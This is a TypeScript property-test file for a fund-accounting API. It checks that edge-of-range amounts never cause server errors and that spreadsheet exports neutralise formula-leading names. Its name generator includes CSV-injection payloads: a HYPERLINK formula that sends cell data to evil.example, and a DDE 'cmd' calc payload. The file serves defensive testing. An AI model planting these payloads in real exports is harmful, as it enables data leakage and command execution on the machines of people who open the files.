import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { formatYuan, MAX_FEN } from '../../src/domain/money';
import { REPORTS } from '../../reports';
import { testApi, type TestApi } from '../helpers/api';
import { TEST_DIALECT } from '../helpers/database';
import { reliefInvested } from '../helpers/fund-scenario';
import { getBytes, readWorkbook } from '../helpers/report-client';

/**
 * Hostile property tests for issue 12 items 1 and 2: amounts at the edge of the exact range on every
 * write route that takes one, and formula-leading names in every CSV and XLSX report. Nothing may
 * answer 5xx, no stored total may leave the range, and no text cell may start a formula.
 */
const RUNS = Number(process.env.PHOENIX_HOSTILE_RUNS ?? 100);
const FORMULA_START = /^[=+\-@\t\r]/;

/** Amounts near 2^53 - 1 fen and near half of it (two of those make a total past the range), as yuan strings. */
const edgeAmount = fc
  .oneof(
    fc.bigInt({ min: MAX_FEN - 1000n, max: MAX_FEN + 1000n }),
    fc.bigInt({ min: MAX_FEN / 2n - 1000n, max: MAX_FEN / 2n + 1000n }),
    fc.bigInt({ min: 10n ** 17n - 1000n, max: 10n ** 17n - 1n }),
    fc.bigInt({ min: 1n, max: 100_000n }),
  )
  .map(formatYuan);

describe(`hostile amounts and names (${TEST_DIALECT})`, function () {
  this.timeout(300_000);
  let api: TestApi;
  let investmentId: number;
  let callId: number;
  before(async () => {
    api = await testApi();
    ({ callId, investmentId } = await reliefInvested(api));
  });
  after(() => api.dispose());

  it('amounts at the edge of the range on every write route: no 5xx, nothing stored out of range, verify stays clean', async () => {
    const routes: Array<[string, string, (amount: string) => Record<string, unknown>]> = [
      ['post', '/programmes', (a) => ({ code: `P-${Math.random().toString(36).slice(2, 8).toUpperCase()}`, name: 'p', governmentCapitalTarget: a, socialCapitalTarget: a })],
      ['patch', '/funds/PHX-RELIEF', (a) => ({ targetSize: a })],
      ['post', '/funds/PHX-RELIEF/commitments', (a) => ({ investor: 'PRIV-A', amount: a, date: '2019-03-02' })],
      ['post', '/funds/PHX-RELIEF/capital-calls', (a) => ({ amount: a, date: '2019-03-02', dueDate: '2019-04-01' })],
      ['post', `/capital-calls/${callId}/payments`, (a) => ({ investor: 'BANK-A', amount: a, date: '2019-03-02' })],
      ['post', '/funds/PHX-RELIEF/investments', (a) => ({ company: { stockCode: '600000.SH', name: '测试公司' }, instrument: 'equity', acquisitionMode: 'block_trade', shares: 1, amount: a, date: '2019-03-02' })],
      ['post', `/investments/${investmentId}/exits`, (a) => ({ kind: 'income', proceeds: a, cost: '0.00', date: '2019-03-02' })],
      ['post', `/investments/${investmentId}/exits`, (a) => ({ kind: 'sale', proceeds: a, cost: '1.00', date: '2019-03-02' })],
      ['post', `/investments/${investmentId}/valuations`, (a) => ({ fairValue: a, date: '2019-03-02' })],
      ['post', '/funds/PHX-RELIEF/distributions', (a) => ({ amount: a, date: '2019-03-02' })],
      ['post', '/funds/PHX-RELIEF/expenses', (a) => ({ amount: a, date: '2019-03-02', kind: 'management_fee' })],
    ];
    const failures: string[] = [];
    for (const [method, path, body] of routes) {
      await fc.assert(
        fc.asyncProperty(edgeAmount, async (amount) => {
          const role = method === 'patch' || path === '/programmes' ? 'admin' : 'fund_manager';
          const client = api.as(role);
          const res = method === 'patch' ? await client.patch(path, body(amount)) : await client.post(path, body(amount));
          if (res.status >= 500) failures.push(`${method} ${path} ${amount} → ${res.status} ${res.text.slice(0, 200)}`);
          return res.status < 500;
        }),
        { numRuns: Math.max(5, Math.round(RUNS / 5)), endOnFailure: true },
      ).catch((error: Error) => failures.push(error.message.split('\n')[0]));
    }
    expect(failures, failures.join('\n')).to.deep.equal([]);
    const outOfRange = await api.db.writer('account_balances').where('debit', '>', MAX_FEN.toString()).orWhere('credit', '>', MAX_FEN.toString()).select('account');
    expect(outOfRange).to.deep.equal([]);
    for (const path of ['/funds', '/funds/PHX-RELIEF', '/ledger/trial-balance']) expect((await api.as('viewer').get(path)).status).to.equal(200);
    const verified = (await api.as('viewer').get('/ledger/verify')).body;
    expect(verified, JSON.stringify(verified.problems)).to.include({ ok: true });
  });

  it('formula-leading names reach every CSV and XLSX report only as neutralised text', async () => {
    const name = fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0"), fc.string({ maxLength: 20 }))
      .map(([lead, rest]) => `${lead}${rest}`.slice(0, 200));
    const names = fc.sample(name, Math.max(5, Math.round(RUNS / 10)));
    const m = api.as('fund_manager');
    for (const [i, n] of names.entries()) {
      expect((await m.post('/investors', { code: `HOST-${i}`, name: n, category: 'private', capitalClass: 'social' })).status).to.equal(201);
      expect((await m.post('/funds/PHX/commitments', { investor: `HOST-${i}`, amount: '1.00', date: '2019-03-03' })).status).to.be.oneOf([201, 422]);
    }
    await m.post('/funds/PHX-RELIEF/expenses', { amount: '1.00', date: '2019-03-03', kind: 'other', memo: names[0] });
    for (const [reportName, definition] of REPORTS) {
      // The first test made more programmes: the leverage report then needs to be told which.
      const query = `asOf=2019-12-31${definition.filters?.includes('programme') ? '&programme=YH-GIF' : ''}`;
      const textColumns = definition.columns.map((c, i) => (c.kind === 'text' ? i : -1)).filter((i) => i >= 0);
      const csv = await getBytes(api, `/reports/${reportName}?format=csv&${query}`);
      expect(csv.status, `${reportName} csv`).to.equal(200);
      const records: string[][] = parse(csv.body.toString('utf8'), { bom: true, relax_column_count: true });
      for (const record of records) for (const i of textColumns) expect(record[i] ?? '', `${reportName} csv`).to.not.match(FORMULA_START);
      const xlsx = await getBytes(api, `/reports/${reportName}?format=xlsx&${query}`);
      expect(xlsx.status, `${reportName} xlsx`).to.equal(200);
      const sheet = await readWorkbook(xlsx.body);
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          if (typeof cell.value === 'string') expect(cell.value, `${reportName} xlsx`).to.not.match(FORMULA_START);
        });
      });
    }
  });
});
